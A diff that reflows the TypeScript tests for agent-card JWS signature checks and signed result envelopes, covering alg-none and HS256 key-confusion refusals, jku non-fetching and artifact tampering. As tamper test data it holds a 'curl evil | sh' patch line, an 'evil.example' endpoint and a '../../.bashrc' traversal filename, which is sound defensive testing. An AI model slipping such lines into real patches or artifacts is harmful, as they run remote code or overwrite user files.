@@ -62,7 +62,10 @@ describe('signing keys', () => {
     await assert.rejects(writeSigningKey(other, file), /EEXIST/);
     assert.equal((await loadSigningKey(file)).kid, key.kid);
     await chmod(file, 0o644);
-    await assert.rejects(loadSigningKey(file), (e: unknown) => e instanceof SigningError && e.code === 'key-permissions' && /chmod 600/.test(e.message));
+    await assert.rejects(
+      loadSigningKey(file),
+      (e: unknown) => e instanceof SigningError && e.code === 'key-permissions' && /chmod 600/.test(e.message),
+    );
     const junk = join(dir, 'junk.key');
     await writeFile(junk, '{"kty":"oct","k":"AAAA"}', { mode: 0o600 });
     await assert.rejects(loadSigningKey(junk), (e: unknown) => e instanceof SigningError && e.code === 'key-invalid');
@@ -87,11 +90,14 @@ describe('agent card signatures', () => {
 
   it('covers the RFC 8785 form: whitespace and key order do not matter, any field change does', async () => {
     const signed = await signAgentCard(v1Card(), key);
-    const reordered = JSON.parse(JSON.stringify(Object.fromEntries(Object.entries(signed).reverse()), null, 3)) as Record<string, unknown>;
+    const reordered = JSON.parse(
+      JSON.stringify(Object.fromEntries(Object.entries(signed).reverse()), null, 3),
+    ) as Record<string, unknown>;
     assert.equal((await verifyAgentCard(reordered)).status, 'verified');
     for (const tamper of [
       (c: Record<string, unknown>) => (c.description = 'Formats code. Also reads your SSH keys.'),
-      (c: Record<string, unknown>) => ((c.supportedInterfaces as Record<string, unknown>[])[0].url = 'https://evil.example/a2a'),
+      (c: Record<string, unknown>) =>
+        ((c.supportedInterfaces as Record<string, unknown>[])[0].url = 'https://evil.example/a2a'),
       (c: Record<string, unknown>) => (c.iconUrl = ''),
     ]) {
       const c = structuredClone(signed);
@@ -104,15 +110,23 @@ describe('agent card signatures', () => {
 
   it('refuses alg none, HMAC keyed with the public key, and algorithms outside the allow-list', async () => {
     const card = v1Card();
-    const none = { ...card, signatures: [{ protected: b64({ alg: 'none', typ: 'JOSE', kid: key.kid, jwk: key.publicJwk }), signature: '' }] };
+    const none = {
+      ...card,
+      signatures: [{ protected: b64({ alg: 'none', typ: 'JOSE', kid: key.kid, jwk: key.publicJwk }), signature: '' }],
+    };
     const r1 = await verifyAgentCard(none);
     assert.equal(r1.status, 'invalid');
     assert.match(r1.status === 'invalid' ? r1.reason : '', /alg "none" is not allowed/);
 
     // The classic confusion: HS256 with the public key's bytes as the secret.
     const secret = new TextEncoder().encode(JSON.stringify(key.publicJwk));
-    const hs = await new jose.FlattenedSign(new TextEncoder().encode(cardSigningPayload(card))).setProtectedHeader({ alg: 'HS256', typ: 'JOSE', kid: key.kid }).sign(secret);
-    const r2 = await verifyAgentCard({ ...card, signatures: [{ protected: hs.protected, signature: hs.signature }] }, { pinnedKeys: [await toVerifiedKey(key.publicJwk)] });
+    const hs = await new jose.FlattenedSign(new TextEncoder().encode(cardSigningPayload(card)))
+      .setProtectedHeader({ alg: 'HS256', typ: 'JOSE', kid: key.kid })
+      .sign(secret);
+    const r2 = await verifyAgentCard(
+      { ...card, signatures: [{ protected: hs.protected, signature: hs.signature }] },
+      { pinnedKeys: [await toVerifiedKey(key.publicJwk)] },
+    );
     assert.match(r2.status === 'invalid' ? r2.reason : 'verified', /alg "HS256" is not allowed/);
 
     const es384 = await jose.generateKeyPair('ES384');
@@ -122,13 +136,20 @@ describe('agent card signatures', () => {
     const r3 = await verifyAgentCard({ ...card, signatures: [{ protected: s3.protected, signature: s3.signature }] });
     assert.match(r3.status === 'invalid' ? r3.reason : 'verified', /ES384/);
     // An alg claimed only in the unprotected header does not count.
-    const r4 = await verifyAgentCard({ ...card, signatures: [{ protected: b64({ typ: 'JOSE' }), header: { alg: 'EdDSA' }, signature: 'AAAA' }] });
+    const r4 = await verifyAgentCard({
+      ...card,
+      signatures: [{ protected: b64({ typ: 'JOSE' }), header: { alg: 'EdDSA' }, signature: 'AAAA' }],
+    });
     assert.equal(r4.status, 'invalid');
   });
 
   it('a signature made with createCardSignature on the object served verifies after the JSON round trip', async () => {
     // What the gateway does: sign the card object, then the SDK handler serves JSON.stringify(card).
-    const card: Record<string, unknown> = { ...v1Card(), skills: [{ id: 's', name: 'S', description: undefined, tags: [] }], signatures: [] };
+    const card: Record<string, unknown> = {
+      ...v1Card(),
+      skills: [{ id: 's', name: 'S', description: undefined, tags: [] }],
+      signatures: [],
+    };
     card.signatures = [await createCardSignature(card, key)];
     const served = JSON.parse(JSON.stringify(card)) as Record<string, unknown>;
     assert.equal((await verifyAgentCard(served)).status, 'verified');
@@ -140,7 +161,10 @@ describe('agent card signatures', () => {
     const s = await new jose.FlattenedSign(new TextEncoder().encode(cardSigningPayload(card)))
       .setProtectedHeader({ alg: 'ES256', typ: 'JOSE', kid: 'p256', jwk: await jose.exportJWK(es.publicKey) })
       .sign(es.privateKey);
-    assert.equal((await verifyAgentCard({ ...card, signatures: [{ protected: s.protected, signature: s.signature }] })).status, 'verified');
+    assert.equal(
+      (await verifyAgentCard({ ...card, signatures: [{ protected: s.protected, signature: s.signature }] })).status,
+      'verified',
+    );
   });
 
   it('with a pinned key: another key, an unsigned card, are invalid', async () => {
@@ -156,17 +180,26 @@ describe('agent card signatures', () => {
   it('never fetches jku, and refuses an embedded key with a private member', async () => {
     const canary = await startCanary();
     try {
-      const signed = await signAgentCard(v1Card(), key, { embedKey: false, jku: `http://127.0.0.1:${canary.port}/jwks.json` });
+      const signed = await signAgentCard(v1Card(), key, {
+        embedKey: false,
+        jku: `http://127.0.0.1:${canary.port}/jwks.json`,
+      });
       const r = await verifyAgentCard(signed);
       assert.match(r.status === 'invalid' ? r.reason : 'verified', /never fetches/);
       assert.equal(canary.connections(), 0);
       // It does verify once the key is pinned out of band.
-      assert.equal((await verifyAgentCard(signed, { pinnedKeys: [await toVerifiedKey(key.publicJwk)] })).status, 'verified');
+      assert.equal(
+        (await verifyAgentCard(signed, { pinnedKeys: [await toVerifiedKey(key.publicJwk)] })).status,
+        'verified',
+      );
     } finally {
       await canary.close();
     }
     const priv = await jose.exportJWK(key.privateKey);
-    const withD = { ...v1Card(), signatures: [{ protected: b64({ alg: 'EdDSA', typ: 'JOSE', jwk: priv }), signature: 'AAAA' }] };
+    const withD = {
+      ...v1Card(),
+      signatures: [{ protected: b64({ alg: 'EdDSA', typ: 'JOSE', jwk: priv }), signature: 'AAAA' }],
+    };
     assert.match((await verifyAgentCard(withD)).status === 'invalid' ? 'ok' : 'verified', /ok/);
   });
 
@@ -187,10 +220,21 @@ describe('agent card signatures', () => {
 });
 
 describe('signed result envelope', () => {
-  const patch = { artifactId: 'a1', name: 'changes.patch', parts: [{ text: 'diff --git a/x b/x\n+hello\n', mediaType: 'text/x-diff', filename: 'changes.patch' }] };
+  const patch = {
+    artifactId: 'a1',
+    name: 'changes.patch',
+    parts: [{ text: 'diff --git a/x b/x\n+hello\n', mediaType: 'text/x-diff', filename: 'changes.patch' }],
+  };
   const log = { artifactId: 'a2', name: 'log.txt', parts: [{ text: 'ran prettier' }] };
-  const request = { tenant: 't', message: { messageId: 'm1', role: 'ROLE_USER', parts: [{ text: 'format src' }] }, configuration: { acceptedOutputModes: ['text/x-diff'] } };
-  const status = { state: 'TASK_STATE_COMPLETED', message: { messageId: 'm2', role: 'ROLE_AGENT', parts: [{ text: 'done' }] } };
+  const request = {
+    tenant: 't',
+    message: { messageId: 'm1', role: 'ROLE_USER', parts: [{ text: 'format src' }] },
+    configuration: { acceptedOutputModes: ['text/x-diff'] },
+  };
+  const status = {
+    state: 'TASK_STATE_COMPLETED',
+    message: { messageId: 'm2', role: 'ROLE_AGENT', parts: [{ text: 'done' }] },
+  };
   // The claims the gateway signs (src/gateway/localTaskRunner.ts): extra claims such as outcome are carried as they are.
   const envelope = (): ResultEnvelope => ({
     agent: 'formatter',
@@ -208,7 +252,14 @@ describe('signed result envelope', () => {
 
   it('verifies what was signed, and binds request, artifacts, result, executor and capabilities', async () => {
     const jws = await signResultEnvelope(envelope(), key);
-    const r = await verifyResultEnvelope(jws, { keys: [await toVerifiedKey(key.publicJwk)], taskId: 't1', artifacts: [patch, log], requestDigest: requestDigest(request), state: 'TASK_STATE_COMPLETED', status });
+    const r = await verifyResultEnvelope(jws, {
+      keys: [await toVerifiedKey(key.publicJwk)],
+      taskId: 't1',
+      artifacts: [patch, log],
+      requestDigest: requestDigest(request),
+      state: 'TASK_STATE_COMPLETED',
+      status,
+    });
     assert.ok(r.ok, r.ok ? '' : r.message);
     assert.deepEqual(r.ok && r.envelope.capabilities, { write: false, shell: false, network: false });
     assert.equal(r.ok && r.envelope.executor?.id, 'formatter');
@@ -221,19 +272,36 @@ describe('signed result envelope', () => {
   it('fails on a tampered artifact and names it', async () => {
     const jws = await signResultEnvelope(envelope(), key);
     const keys = [await toVerifiedKey(key.publicJwk)];
-    const tampered = { ...patch, parts: [{ ...patch.parts[0], text: 'diff --git a/x b/x\n+hello\n+curl evil | sh\n' }] };
+    const tampered = {
+      ...patch,
+      parts: [{ ...patch.parts[0], text: 'diff --git a/x b/x\n+hello\n+curl evil | sh\n' }],
+    };
     const r = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts: [tampered, log] });
     assert.equal(r.ok, false);
     assert.ok(!r.ok && r.failure === 'artifact-mismatch' && r.artifactName === 'changes.patch');
     assert.match(!r.ok ? r.message : '', /"changes\.patch" does not match/);
     const missing = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts: [patch] });
     assert.ok(!missing.ok && missing.failure === 'artifact-missing' && missing.artifactName === 'log.txt');
-    const extra = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts: [patch, log, { artifactId: 'a3', name: 'extra.sh', parts: [] }] });
+    const extra = await verifyResultEnvelope(jws, {
+      keys,
+      taskId: 't1',
+      artifacts: [patch, log, { artifactId: 'a3', name: 'extra.sh', parts: [] }],
+    });
     assert.ok(!extra.ok && extra.failure === 'artifact-unsigned' && extra.artifactName === 'extra.sh');
     const otherRequest = { ...request, message: { ...request.message, parts: [{ text: 'delete src' }] } };
-    const wrongReq = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts: [patch, log], requestDigest: requestDigest(otherRequest) });
+    const wrongReq = await verifyResultEnvelope(jws, {
+      keys,
+      taskId: 't1',
+      artifacts: [patch, log],
+      requestDigest: requestDigest(otherRequest),
+    });
     assert.ok(!wrongReq.ok && wrongReq.failure === 'request-mismatch');
-    const wrongState = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts: [patch, log], state: 'TASK_STATE_FAILED' });
+    const wrongState = await verifyResultEnvelope(jws, {
+      keys,
+      taskId: 't1',
+      artifacts: [patch, log],
+      state: 'TASK_STATE_FAILED',
+    });
     assert.ok(!wrongState.ok && wrongState.failure === 'result-mismatch');
     // A changed filename or media type is a changed artifact too, not only its text.
     const renamed = { ...patch, parts: [{ ...patch.parts[0], filename: '../../.bashrc' }] };
@@ -258,7 +326,10 @@ describe('signed result envelope', () => {
       assert.ok(!r.ok && r.failure === 'artifact-duplicate' && r.artifactId === 'a1', `${label}: ${JSON.stringify(r)}`);
       assert.match(!r.ok ? r.message : '', /"changes\.patch" more than once/);
     }
-    const twice = await signResultEnvelope({ ...envelope(), artifacts: [...envelope().artifacts, envelope().artifacts[0]] }, key);
+    const twice = await signResultEnvelope(
+      { ...envelope(), artifacts: [...envelope().artifacts, envelope().artifacts[0]] },
+      key,
+    );
     const r = await verifyResultEnvelope(twice, { keys, taskId: 't1', artifacts: [patch, log] });
     assert.ok(!r.ok && r.failure === 'artifact-duplicate', JSON.stringify(r));
     const junk = await signResultEnvelope({ ...envelope(), artifacts: [{ artifactId: 'a1' }] }, key);
@@ -268,12 +339,24 @@ describe('signed result envelope', () => {
 
   it('binds the context, and fails when a claim the caller checks is not signed', async () => {
     const keys = [await toVerifiedKey(key.publicJwk)];
-    const full = { keys, taskId: 't1', artifacts: [patch, log], contextId: 'c1', requestDigest: requestDigest(request), state: 'TASK_STATE_COMPLETED', status };
+    const full = {
+      keys,
+      taskId: 't1',
+      artifacts: [patch, log],
+      contextId: 'c1',
+      requestDigest: requestDigest(request),
+      state: 'TASK_STATE_COMPLETED',
+      status,
+    };
     const jws = await signResultEnvelope(envelope(), key);
     assert.ok((await verifyResultEnvelope(jws, full)).ok);
     const wrongContext = await verifyResultEnvelope(jws, { ...full, contextId: 'c2' });
-    assert.ok(!wrongContext.ok && wrongContext.failure === 'task-mismatch' && /context c1, not c2/.test(wrongContext.message), JSON.stringify(wrongContext));
-    const without = (claim: string): ResultEnvelope => Object.fromEntries(Object.entries(envelope()).filter(([k]) => k !== claim)) as ResultEnvelope;
+    assert.ok(
+      !wrongContext.ok && wrongContext.failure === 'task-mismatch' && /context c1, not c2/.test(wrongContext.message),
+      JSON.stringify(wrongContext),
+    );
+    const without = (claim: string): ResultEnvelope =>
+      Object.fromEntries(Object.entries(envelope()).filter(([k]) => k !== claim)) as ResultEnvelope;
     for (const [claim, failure] of [
       ['contextId', 'task-mismatch'],
       ['requestDigest', 'request-mismatch'],
@@ -283,8 +366,13 @@ describe('signed result envelope', () => {
       const r = await verifyResultEnvelope(await signResultEnvelope(without(claim), key), full);
       assert.ok(!r.ok && r.failure === failure, `${claim} left out: ${JSON.stringify(r)}`);
     }
-    const nullRequest = await verifyResultEnvelope(await signResultEnvelope({ ...envelope(), requestDigest: null }, key), full);
-    assert.ok(!nullRequest.ok && nullRequest.failure === 'request-mismatch' && /no request digest/.test(nullRequest.message));
+    const nullRequest = await verifyResultEnvelope(
+      await signResultEnvelope({ ...envelope(), requestDigest: null }, key),
+      full,
+    );
+    assert.ok(
+      !nullRequest.ok && nullRequest.failure === 'request-mismatch' && /no request digest/.test(nullRequest.message),
+    );
     // The message may have gone out in one of several forms (streaming, or polling): one of them must be signed.
     const other = requestDigest({ ...request, configuration: { acceptedOutputModes: [] } });
     assert.ok((await verifyResultEnvelope(jws, { ...full, requestDigest: [other, requestDigest(request)] })).ok);
